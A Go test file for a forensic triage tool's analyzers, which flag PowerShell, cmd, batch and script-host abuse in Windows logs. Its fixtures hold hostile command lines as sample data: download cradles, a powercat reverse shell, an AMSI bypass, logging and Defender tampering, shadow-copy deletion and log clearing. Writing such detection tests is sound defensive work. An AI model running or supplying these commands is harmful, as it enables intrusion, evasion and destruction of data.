package analyzers

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"triage/timeline"
)

func TestRegistrySortedAndUnique(t *testing.T) {
	prev := ""
	for _, a := range Registry() {
		m := a.Meta()
		if m.ID <= prev {
			t.Errorf("registry not sorted or has duplicates: %q after %q", m.ID, prev)
		}
		if m.Technique.ID == "" || m.Description == "" || len(m.References) == 0 {
			t.Errorf("%s: incomplete metadata %+v", m.ID, m)
		}
		prev = m.ID
	}
}

// ev is a synthetic timeline event for the table tests.
type ev struct {
	source, provider     string
	eventID, level       int
	process, parent, cmd string
	data                 map[string]any
	ts                   string
}

func newTimeline(t *testing.T, events []ev) *sql.DB {
	t.Helper()
	db, err := timeline.Create(filepath.Join(t.TempDir(), "timeline.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	w, err := timeline.NewWriter(db)
	if err != nil {
		t.Fatal(err)
	}
	art := &timeline.Artifact{Host: "h", EvidenceRoot: "r", Path: "p", Kind: "evtx", SHA256: "00", MD5: "00"}
	if _, err := w.AddArtifact(art); err != nil {
		t.Fatal(err)
	}
	for i, e := range events {
		ts := time.Date(2024, 3, 5, 10, 0, i, 0, time.UTC) // a Tuesday, in business hours
		if e.ts != "" {
			ts, _ = time.Parse(time.RFC3339, e.ts)
		}
		if e.source == "" {
			e.source = "evtx"
		}
		if err := w.AddEvent(&timeline.Event{TS: ts, Host: "h", ArtifactID: art.ID, RecordID: int64(i + 1), Source: e.source,
			EventID: e.eventID, Provider: e.provider, Level: e.level, Process: e.process, ParentProcess: e.parent,
			CommandLine: e.cmd, Summary: "s", Data: e.data, ScriptBlockID: str(e.data["ScriptBlockId"])}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return db
}

func str(v any) string { s, _ := v.(string); return s }

// queryStrings returns the first column of every row of a query.
func queryStrings(t *testing.T, db *sql.DB, query string) []string {
	t.Helper()
	rows, err := db.Query(query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var s string
		if err := rows.Scan(&s); err != nil {
			t.Fatal(err)
		}
		out = append(out, s)
	}
	return out
}

func repeat(e ev, n int) []ev {
	out := make([]ev, n)
	for i := range out {
		out[i] = e
	}
	return out
}

// wshPrefetch is a prefetch run of a script host with the given file list.
func wshPrefetch(exe string, files ...string) ev {
	list := make([]any, 0, len(files)+1)
	list = append(list, `\VOLUME{1}\WINDOWS\SYSTEM32\`+exe)
	for _, f := range files {
		list = append(list, f)
	}
	return ev{source: "prefetch", process: `\VOLUME{1}\WINDOWS\SYSTEM32\` + exe, data: map[string]any{"executable": exe, "files": list}}
}

func sysmon1(image, parent, cmd string) ev {
	return ev{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: image, parent: parent, cmd: cmd}
}

func security4688(image, parent, cmd string) ev {
	return ev{provider: "Microsoft-Windows-Security-Auditing", eventID: 4688, process: image, parent: parent, cmd: cmd}
}

const (
	ps   = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmd  = `C:\Windows\System32\cmd.exe`
	expl = `C:\Windows\explorer.exe`
)

// tableCase is one row of a table test: events, and the finding of the
// technique that must (or must not) come of them.
type tableCase struct {
	name      string
	events    []ev
	technique string
	severity  string // "" when no finding of the technique above informational must appear, "!s" when none of severity s or above
	title     string
}

func TestAnalyzers(t *testing.T) {
	tests := []tableCase{
		{"encoded command", []ev{sysmon1(ps, expl, `powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
			"T1059.001", "high", "PowerShell -EncodedCommand: download"},
		{"download cradle with iex", []ev{security4688(ps, cmd, `powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')`)},
			"T1059.001", "high", "PowerShell download"},
		{"stealth flags", []ev{security4688(ps, expl, `powershell.exe -nop -w hidden -noni -c "Get-Date"`)},
			"T1059.001", "medium", "PowerShell started with stealth flags: -nop -w hidden -noni"},
		{"-ec abbreviation", []ev{security4688(ps, cmd, `powershell.exe -ec VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA`)},
			"T1059.001", "high", "PowerShell -EncodedCommand"},
		{"en dash before -encodedcommand", []ev{security4688(ps, cmd, "powershell.exe \u2013EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA")},
			"T1059.001", "high", "PowerShell -EncodedCommand"},
		{"flags abbreviated otherwise", []ev{security4688(ps, expl, `powershell.exe -noninter -execu bypass -Command "Get-Date"`)},
			"T1059.001", "medium", "PowerShell started with stealth flags: -noni -ep bypass"},
		{"one stealth flag is quiet", []ev{security4688(ps, expl, `powershell.exe -NoProfile -Command "Get-Service"`)},
			"T1059.001", "", ""},
		{"invoke-webrequest to a file", []ev{sysmon1(ps, cmd, `powershell -c "Invoke-WebRequest -Uri http://x/a.exe -OutFile $env:TEMP\a.exe"`)},
			"T1059.001", "medium", "PowerShell download"},
		{"bits transfer", []ev{sysmon1(ps, cmd, `powershell Start-BitsTransfer -Source http://x/a -Destination C:\Users\Public\a.exe`)},
			"T1059.001", "medium", "PowerShell download"},
		{"script block turns logging off", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{"ScriptBlockId": "c", "MessageNumber": "1", "MessageTotal": "1",
			"ScriptBlockText": `$s['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0`}}},
			"T1059.001", "high", "PowerShell script block: logging-bypass"},
		{"ordinary script block is quiet", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{"ScriptBlockId": "d", "MessageNumber": "1", "MessageTotal": "1",
			"ScriptBlockText": "Get-ChildItem -Path $env:USERPROFILE -Filter *.log | Remove-Item -WhatIf"}}},
			"T1059.001", "", ""},
		{"history download cradle", []ev{{source: "history", process: "powershell.exe", cmd: `IEX (iwr http://10.0.0.5/a.ps1 -UseBasicParsing)`}},
			"T1059.001", "high", "PowerShell download (PSReadLine history, run at or before 2024-03-05 10:00:00 UTC)"},
		{"ordinary history line", []ev{{source: "history", process: "powershell.exe", cmd: `Get-ChildItem C:\Users | Sort-Object Length -Descending`}},
			"T1059.001", "", ""},
		{"plain powershell is quiet", []ev{security4688(ps, expl, `powershell.exe -File C:\scripts\backup.ps1`)},
			"T1059.001", "", ""},
		{"powercat reverse shell", []ev{security4688(ps, cmd, `powershell  -Exec Bypass ". \"C:\TMP\nc.ps1\";powercat -c www.example.com -p 80 -t 2 -e cmd"`)},
			"T1059.001", "high", "PowerShell reverse-shell"},
		{"bypass with a dropped script", []ev{security4688(ps, cmd, `powershell.exe -Exec ByPasS ". C:\TMP\schtasks-backdoor.ps1;Invoke-Tasksbackdoor"`)},
			"T1059.001", "medium", "PowerShell bypasses the execution policy to run schtasks-backdoor.ps1"},
		{"bypass with an installed script", []ev{security4688(ps, `C:\Windows\System32\svchost.exe`, `powershell.exe -ExecutionPolicy Bypass -File "C:\Program Files\Vendor\update.ps1"`)},
			"T1059.001", "", ""},
		{"amsi bypass in history", []ev{{source: "history", process: "powershell.exe", cmd: `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')`}},
			"T1059.001", "high", "PowerShell amsi-bypass (PSReadLine history, run at or before 2024-03-05 10:00:00 UTC)"},
		{"4104 warning", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, data: map[string]any{"ScriptBlockId": "b", "ScriptBlockText": "x", "MessageNumber": "1", "MessageTotal": "1"}}},
			"T1059.001", "low", "Script block Windows logged as suspicious (4104 Warning)"},
		{"engine downgrade", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "2.0", "HostName": "ConsoleHost", "HostApplication": "powershell -version 2"}}},
			"T1059.001", "high", "PowerShell engine downgraded to version 2.0"},
		{"engine 5 is fine", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "5.1.17763.1", "HostName": "ConsoleHost"}}},
			"T1059.001", "", ""},
		{"remoting", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "5.1", "HostName": "ServerRemoteHost"}}},
			"T1059.001", "medium", "PowerShell remoting session (ServerRemoteHost)"},
		{"unmanaged powershell", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Users\a\evil.exe`, data: map[string]any{"ImageLoaded": `C:\Windows\assembly\System.Management.Automation.dll`}}},
			"T1059.001", "high", "Unmanaged PowerShell: evil.exe loaded System.Management.Automation"},
		{"powershell loading its own engine", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{"ImageLoaded": `C:\Windows\assembly\System.Management.Automation.dll`, "Signed": "true"}}},
			"T1059.001", "", ""},
		{"powershell opens lsass", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 10, data: map[string]any{"SourceImage": ps,
			"TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x143a", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+90eaa|UNKNOWN(000000CDD65B2A68)`}}},
			"T1059.001", "high", "PowerShell opened the memory of lsass.exe"},
		{"antivirus opens lsass", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 10, data: map[string]any{"SourceImage": `C:\Program Files\Windows Defender\MsMpEng.exe`,
			"TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x1010"}}},
			"T1059.001", "", ""},
		{"unsigned module in powershell", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{"ImageLoaded": `C:\Users\bob\AppData\Local\Temp\x.dll`, "Signed": "false"}}},
			"T1059.001", "medium", "PowerShell loaded an unsigned module: x.dll"},
		{"ngen native image is unsigned by nature", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{
			"ImageLoaded": `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\287d\System.Management.Automation.ni.dll`, "Signed": "false"}}},
			"T1059.001", "", ""},
		{"cmd from word", []ev{sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c whoami`)},
			"T1059.003", "high", "cmd.exe started by winword.exe (Office)"},
		{"cmd from explorer", []ev{sysmon1(cmd, expl, `cmd.exe`)}, "T1059.003", "", ""},
		{"rare parent against the host's baseline", append(repeat(sysmon1(cmd, expl, `cmd.exe`), 49), sysmon1(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`)),
			"T1059.003", "low", "cmd.exe started by agent.exe, a rare parent on this host (1 of 50)"},
		{"no baseline on few starts", append(repeat(sysmon1(cmd, expl, `cmd.exe`), 5), sysmon1(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`)),
			"T1059.003", "", ""},
		{"psexec service", []ev{sysmon1(cmd, `C:\Windows\PSEXESVC.exe`, `"cmd.exe" /c systeminfo`)},
			"T1059.003", "medium", "cmd.exe started by psexesvc.exe (PsExec service: remote execution)"},
		{"discovery chain", []ev{security4688(cmd, expl, `cmd.exe /c whoami /all & hostname && ipconfig /all | findstr IPv4 & net user`)},
			"T1059.003", "medium", "cmd.exe /c chains 4 discovery commands"},
		{"one discovery command is quiet", []ev{security4688(cmd, expl, `cmd.exe /c ipconfig /all`)},
			"T1059.003", "", ""},
		{"executable written by echo", []ev{
			security4688(cmd, `C:\Program Files\Microsoft SQL Server\MSSQL\Binn\sqlservr.exe`, `cmd.exe /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAA >>%TEMP%\feyQV.b64`),
			security4688(cmd, `C:\Program Files\Microsoft SQL Server\MSSQL\Binn\sqlservr.exe`, `cmd.exe /c echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA >>%TEMP%\feyQV.b64`),
			security4688(cmd, `C:\Program Files\Microsoft SQL Server\MSSQL\Binn\sqlservr.exe`, `cmd.exe /c echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA >>%TEMP%\feyQV.b64`)},
			"T1059.003", "high", "cmd.exe wrote feyQV.b64 in 3 echo commands"},
		{"a script written by echo in one line", []ev{security4688(cmd, expl,
			`cmd.exe /c echo Set o = CreateObject("WScript.Shell") >%TEMP%\a.vbs & echo o.Run "calc" >>%TEMP%\a.vbs & echo WScript.Quit >>%TEMP%\a.vbs & cscript //nologo %TEMP%\a.vbs`)},
			"T1059.003", "high", "cmd.exe wrote a.vbs in 3 echo commands"},
		{"a log line or two is not a built file", []ev{security4688(cmd, expl, `cmd.exe /c echo started >> C:\Logs\job.log & echo done >> C:\Logs\job.log`)},
			"T1059.003", "", ""},
		{"bitsadmin download", []ev{security4688(cmd, expl, `cmd /c bitsadmin /transfer j http://x/a.exe C:\Users\Public\a.exe`)},
			"T1059.003", "medium", "cmd.exe /c download"},
		{"curl download", []ev{security4688(cmd, expl, `cmd /c curl -o C:\Users\Public\a.exe http://x/a.exe`)},
			"T1059.003", "medium", "cmd.exe /c download"},
		{"account creation", []ev{security4688(cmd, expl, `cmd /c net user support P@ssw0rd! /add`)},
			"T1059.003", "high", "cmd.exe /c account-creation"},
		{"listing users is not creating one", []ev{security4688(cmd, expl, `cmd /c net user`)},
			"T1059.003", "", ""},
		{"path change is not dosfuscation", []ev{security4688(cmd, expl, `cmd /c set PATH=%PATH%;C:\bin&& build.cmd`)},
			"T1059.003", "", ""},
		{"batch: certutil download", []ev{{source: "batch", process: `C:\Tools\get.bat`, data: map[string]any{"content": "certutil -urlcache -split -f http://x/a.exe a.exe\r\n"}}},
			"T1059.003", "medium", "Batch file get.bat: download"},
		{"batch: wmic shadow deletion", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "wmic shadowcopy delete /nointeractive\r\n"}}},
			"T1059.003", "high", "Batch file x.bat: shadow-copy-deletion"},
		{"batch: defender tampering", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "powershell Set-MpPreference -DisableRealtimeMonitoring $true\r\n"}}},
			"T1059.003", "high", "Batch file x.bat: security-tool-tampering"},
		{"batch: run key and task", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe /f\r\nschtasks /create /tn u /tr C:\\u.exe /sc onlogon\r\n"}}},
			"T1059.003", "medium", "Batch file x.bat: run-key, scheduled-task"},
		{"batch in the recycle bin", []ev{{source: "batch", process: `C:\$Recycle.Bin\S-1-5-21-1\$R1.bat`, data: map[string]any{"content": "@echo off\r\necho hi\r\n"}}},
			"T1059.003", "low", "Batch file $r1.bat"},
		{"dosfuscation", []ev{security4688(cmd, expl, `cmd /v:on /c "set a=po^wer^sh^ell&&set b=%a:~0,3%&&call !a! %b:~1,2% %x:~-3,1% ^e^c^h^o"`)},
			"T1059.003", "high", ""},
		{"shadow deletion", []ev{security4688(cmd, expl, `cmd.exe /c vssadmin delete shadows /all /quiet`)},
			"T1059.003", "high", "cmd.exe /c shadow-copy-deletion"},
		{"antivirus exclusion", []ev{security4688(cmd, expl, `"cmd.exe" /c REG ADD "HKLM\SOFTWARE\Wow6432Node\Symantec\Symantec Endpoint Protection\AV\Exclusions\Domain Controller" /f`)},
			"T1059.003", "high", "cmd.exe /c security-tool-tampering"},
		{"wmiexec output", []ev{security4688(cmd, "", `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619090610.0007844 2>&1`)},
			"T1059.003", "high", "cmd.exe output redirected to an administrative share (remote execution)"},
		{"batch in temp with log clearing", []ev{{source: "batch", process: `C:\Users\bob\AppData\Local\Temp\x.bat`, data: map[string]any{"content": "@echo off\r\nwevtutil cl Security\r\n"}}},
			"T1059.003", "high", "Batch file x.bat: event-log-clearing"},
		{"benign batch", []ev{{source: "batch", process: `C:\Tools\build.bat`, data: map[string]any{"content": "@echo off\r\nmsbuild app.sln\r\n"}}},
			"T1059.003", "", ""},
		{"service runs cmd", []ev{{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "x", "ImagePath": `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output`}}},
			"T1059.003", "high", "Service installed to run a command shell: x"},
		{"burst of shell services is one finding", []ev{
			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMQ", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg1"`}},
			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMg", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg2"`}},
			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMw", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg3"`}}},
			"T1059.003", "high", "3 services installed to run a command shell within 2s, first c2VnMQ"},
		{"payload carried in service names", func() []ev {
			names := []string{"IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy", "cmllZCBpbiBzZXJ2aWNlIG5hbWVzLgpJbnZva2Ut", "RXhwcmVzc2lvbiAkY29kZQo="}
			var out []ev
			for i, n := range names {
				out = append(out, ev{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": n,
					"ImagePath": fmt.Sprintf(`cmd.exe /c powershell -command "Get-Service seg%d"`, i+1)}})
			}
			return out
		}(), "T1059.003", "high", "3 services installed to run a command shell within 2s, first IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy"},
		{"ordinary service is quiet", []ev{{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "Acme", "ImagePath": `"C:\Program Files\Acme\agent.exe" -service`}}},
			"T1059.003", "", ""},
		{"wscript from downloads", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder"},
		{"mshta javascript", []ev{sysmon1(`C:\Windows\System32\mshta.exe`, expl, `mshta.exe javascript:a=GetObject("script:http://x/a.sct").Exec();close()`)},
			"T1059.007", "high", "mshta.exe ran inline or remote script"},
		{"system vbscript is only an activity", []ev{sysmon1(`C:\Windows\System32\cscript.exe`, expl, `cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dlv`)},
			"T1059.005", "!medium", ""},
		{"vbscript engine in office", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Program Files\Microsoft Office\WINWORD.EXE`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\vbscript.dll`}}},
			"T1059.005", "medium", "winword.exe loaded the Basic engine (vbscript.dll)"},
		{"vbscript engine in its host", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Windows\System32\wscript.exe`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\vbscript.dll`}}},
			"T1059.005", "", ""},
		{"prefetch: vbscript from temp", []ev{wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\VBSCRIPT.DLL`, `\VOLUME{1}\USERS\BOB\APPDATA\LOCAL\TEMP\A.VBS`)},
			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder (prefetch): a.vbs"},
		{"prefetch: vbscript engine only", []ev{wshPrefetch("CSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\VBSCRIPT.DLL`)},
			"T1059.005", "low", "cscript.exe ran VBScript (prefetch)"},
		{"prefetch: jscript is not vbscript", []ev{wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`)},
			"T1059.005", "", ""},
		{"prefetch: mshta with jscript", []ev{wshPrefetch("MSHTA.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT9.DLL`)},
			"T1059.007", "low", "mshta.exe ran JScript (prefetch)"},
		{"jscript engine in office", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Program Files\Microsoft Office\EXCEL.EXE`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\jscript9.dll`}}},
			"T1059.007", "medium", ""},
		{"jscript engine in its host", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Windows\System32\wscript.exe`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\jscript.dll`}}},
			"T1059.007", "", ""},
		{"installed hta is only an activity", []ev{sysmon1(`C:\Windows\System32\mshta.exe`, expl, `mshta.exe "C:\Program Files\Vendor\setup.hta"`)},
			"T1059.007", "!medium", ""},
		{"vbs is not jscript", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
			"T1059.007", "", ""},
		{"first seen", []ev{sysmon1(cmd, expl, "cmd")},
			"T1059", "informational", "cmd.exe first seen on h"},
		{"other programs are not interpreters", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: `C:\Windows\notepad.exe`, parent: expl, cmd: "notepad", ts: "2024-03-09T23:30:00Z"}},
			"T1059", "", ""},
		{"in business hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-05T10:30:00Z"}},
			"T1059", "!low", ""},
		{"out of hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-09T23:30:00Z"}},
			"T1059", "low", "cmd.exe ran 1 time outside business hours on Saturday 2024-03-09 (23:30:00–23:30:00 UTC)"},
	}
	runTable(t, tests)
}

// runTable runs the analyzers on each case's events and checks the
// findings of its technique; every finding's technique and related
// techniques must have a name in the timeline's table.
func runTable(t *testing.T, tests []tableCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db := newTimeline(t, tt.events)
			if _, err := Run(context.Background(), db, Options{}); err != nil {
				t.Fatal(err)
			}
			checkTechniqueNames(t, db)
			rows, err := db.Query(`SELECT severity, title, rule FROM findings WHERE technique_id = ? ORDER BY id`, tt.technique)
			if err != nil {
				t.Fatal(err)
			}
			defer rows.Close()
			var got []string
			found := false
			for rows.Next() {
				var sev, title, rule string
				rows.Scan(&sev, &title, &rule)
				got = append(got, sev+": "+title)
				if rule == "" {
					t.Errorf("finding %q has no reason", title)
				}
				if sev == tt.severity && (tt.title == "" || title == tt.title) {
					found = true
				}
			}
			if tt.severity == "" {
				// Informational findings are context, not detections.
				for _, g := range got {
					if !strings.HasPrefix(g, "informational: ") {
						t.Errorf("false positive: %s", g)
					}
				}
			}
			if below, ok := strings.CutPrefix(tt.severity, "!"); ok {
				for _, g := range got {
					if sev, _, _ := strings.Cut(g, ":"); rankOf(sev) >= rankOf(below) {
						t.Errorf("false positive: %s", g)
					}
				}
				return
			}
			if tt.severity != "" && !found {
				t.Errorf("want %s %q, got %v", tt.severity, tt.title, got)
			}
		})
	}
}

// checkTechniqueNames fails when a finding names a technique, as its own or
// a related one, that the timeline's table does not name.
func checkTechniqueNames(t *testing.T, db *sql.DB) {
	t.Helper()
	rows, err := db.Query(`SELECT technique_id, technique_name, related FROM findings`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var id, name, rel string
		rows.Scan(&id, &name, &rel)
		var related []string
		json.Unmarshal([]byte(rel), &related)
		if name == "" {
			t.Errorf("finding of %s has no technique name", id)
		}
		for _, r := range append(related, id) {
			if tq, ok := timeline.LookupTechnique(r); !ok || tq.Name == "" {
				t.Errorf("technique %s has no name in the timeline's table", r)
			}
		}
	}
}

// TestBusinessHoursInTZ: a start at 20:30 UTC on a Tuesday is out of hours
// in UTC and in hours in New York (15:30).
func TestBusinessHoursInTZ(t *testing.T) {
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	evening := []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-05T20:30:00Z"}}
	for _, tt := range []struct {
		loc  *time.Location
		want int
	}{{time.UTC, 1}, {ny, 0}} {
		db := newTimeline(t, evening)
		if _, err := Run(context.Background(), db, Options{Location: tt.loc}); err != nil {
			t.Fatal(err)
		}
		var n int
		db.QueryRow(`SELECT count(*) FROM findings WHERE title LIKE '%outside business hours%'`).Scan(&n)
		if n != tt.want {
			t.Errorf("%s: %d out-of-hours findings, want %d", tt.loc, n, tt.want)
		}
	}
}

// TestOvernightBusinessHours: with business hours 22-06 (a night shift),
// a Tuesday start at 23:30 or 03:00 is in hours, one at 12:00 is not.
func TestOvernightBusinessHours(t *testing.T) {
	for _, tt := range []struct {
		ts   string
		want int
	}{{"2024-03-05T23:30:00Z", 0}, {"2024-03-05T03:00:00Z", 0}, {"2024-03-05T12:00:00Z", 1}, {"2024-03-05T06:00:00Z", 1}} {
		db := newTimeline(t, []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: tt.ts}})
		if _, err := Run(context.Background(), db, Options{BusinessStart: 22, BusinessEnd: 6}); err != nil {
			t.Fatal(err)
		}
		var n int
		db.QueryRow(`SELECT count(*) FROM findings WHERE title LIKE '%outside business hours%'`).Scan(&n)
		if n != tt.want {
			t.Errorf("%s with business hours 22-06: %d out-of-hours findings, want %d", tt.ts, n, tt.want)
		}
	}
}

func TestInBusinessHours(t *testing.T) {
	for _, tt := range []struct {
		hour, start, end int
		want             bool
	}{
		{7, 8, 18, false}, {8, 8, 18, true}, {17, 8, 18, true}, {18, 8, 18, false},
		{0, 0, 24, true}, {23, 0, 24, true}, {23, 18, 24, true}, {17, 18, 24, false},
		{22, 22, 6, true}, {23, 22, 6, true}, {0, 22, 6, true}, {5, 22, 6, true}, {6, 22, 6, false}, {21, 22, 6, false},
	} {
		if got := inBusinessHours(tt.hour, tt.start, tt.end); got != tt.want {
			t.Errorf("inBusinessHours(%d, %d, %d) = %v, want %v", tt.hour, tt.start, tt.end, got, tt.want)
		}
	}
}

func TestEvidenceAndIncidents(t *testing.T) {
	db := newTimeline(t, []ev{
		sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c powershell -nop -w hidden -c iex(iwr http://x)`),
		sysmon1(ps, cmd, `powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')`),
	})
	sum, err := Run(context.Background(), db, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Incidents != 1 {
		t.Errorf("%d incidents, want 1", sum.Incidents)
	}
	var n, missing int
	db.QueryRow(`SELECT count(*) FROM finding_evidence`).Scan(&n)
	db.QueryRow(`SELECT count(*) FROM findings f WHERE NOT EXISTS (SELECT 1 FROM finding_evidence e WHERE e.finding_id = f.id)`).Scan(&missing)
	if n == 0 || missing != 0 {
		t.Errorf("%d evidence rows, %d findings without evidence", n, missing)
	}
	var links string
	db.QueryRow(`SELECT links FROM incidents`).Scan(&links)
	var l []string
	json.Unmarshal([]byte(links), &l)
	if !strings.Contains(links, "image:cmd.exe") {
		t.Errorf("incident links %v", l)
	}
	// A rerun gives the same rows.
	dump := func() string {
		var b strings.Builder
		rows, _ := db.Query(`SELECT id, analyzer, title, severity, features, incident_id FROM findings ORDER BY id`)
		defer rows.Close()
		for rows.Next() {
			var id, inc sql.NullInt64
			var a, ti, s, f string
			rows.Scan(&id, &a, &ti, &s, &f, &inc)
			b.WriteString(strings.Join([]string{a, ti, s, f}, "|"))
		}
		return b.String()
	}
	before := dump()
	Run(context.Background(), db, Options{})
	if dump() != before {
		t.Error("a rerun of the analyzers changed the findings")
	}
}

// TestSameStartRecordedTwice: a start logged by 4688, Sysmon 1 and prefetch
// is one run and one finding citing every record; two starts in one log stay
// two, however close.
func TestSameStartRecordedTwice(t *testing.T) {
	shell := `powershell  -Exec Bypass ". \"C:\TMP\nc.ps1\";powercat -c www.example.com -p 80 -t 2 -e cmd"`
	at := func(e ev, ts string) ev { e.ts = ts; return e }
	prefetch := ev{source: "prefetch", process: `\VOLUME{1}\WINDOWS\SYSTEM32\WINDOWSPOWERSHELL\V1.0\POWERSHELL.EXE`}
	tests := []struct {
		name     string
		events   []ev
		findings int // T1059.001 reverse-shell findings
		evidence int // evidence rows of the first
		night    string
	}{
		{"4688, sysmon 1 and prefetch of one start", []ev{
			at(security4688(ps, cmd, shell), "2024-03-09T23:30:00.100Z"),
			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.120Z"),
			at(prefetch, "2024-03-09T23:30:00.130Z"),
		}, 1, 3, "powershell.exe ran 1 time outside business hours"},
		// Two starts are two runs; their findings, saying the same thing
		// within minutes, fold into one citing both.
		{"two starts in one log", []ev{
			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.100Z"),
			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:00.900Z"),
		}, 1, 2, "powershell.exe ran 2 times outside business hours"},
		{"records too far apart", []ev{
			at(security4688(ps, cmd, shell), "2024-03-09T23:30:00Z"),
			at(sysmon1(ps, cmd, shell), "2024-03-09T23:30:05Z"),
		}, 1, 2, "powershell.exe ran 2 times outside business hours"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db := newTimeline(t, tt.events)
			if _, err := Run(context.Background(), db, Options{}); err != nil {
				t.Fatal(err)
			}
			var n, evidence int
